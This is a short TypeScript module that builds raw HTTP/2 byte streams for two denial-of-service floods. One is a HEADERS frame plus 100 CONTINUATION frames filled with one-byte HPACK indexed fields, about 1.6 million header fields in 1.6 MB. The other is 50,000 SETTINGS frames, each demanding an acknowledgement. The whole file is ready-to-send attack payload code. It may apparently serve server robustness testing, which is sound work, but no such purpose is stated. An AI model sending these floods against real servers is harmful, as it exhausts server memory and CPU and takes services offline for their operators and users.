/** Floods of HTTP/2 frames that no HTTP/2 library sends: RFC 9113 (frames), RFC 7541 (indexed header fields). */

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const HEADERS = 1
const SETTINGS = 4
const CONTINUATION = 9
/** The largest frame that the default settings allow. */
const FRAME_BYTES = 16_384
/** `:method: GET`, one byte for a field of 42 bytes (RFC 7541 section 4.1). */
const INDEXED_FIELD = 0x82

/** A header block of 1.6 million fields in 1.6 MB. */
export function headerFlood(): Buffer {
  const block = Buffer.alloc(FRAME_BYTES, INDEXED_FIELD)
  const continuations = Array.from({ length: 100 }, () => http2Frame(CONTINUATION, 1, block))
  return Buffer.concat([PREFACE, http2Frame(SETTINGS, 0), http2Frame(HEADERS, 1, block), ...continuations])
}

/** Each SETTINGS frame asks for an acknowledgement. */
export function settingsFlood(): Buffer {
  return Buffer.concat([PREFACE, ...Array.from({ length: 50_000 }, () => http2Frame(SETTINGS, 0))])
}

function http2Frame(type: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
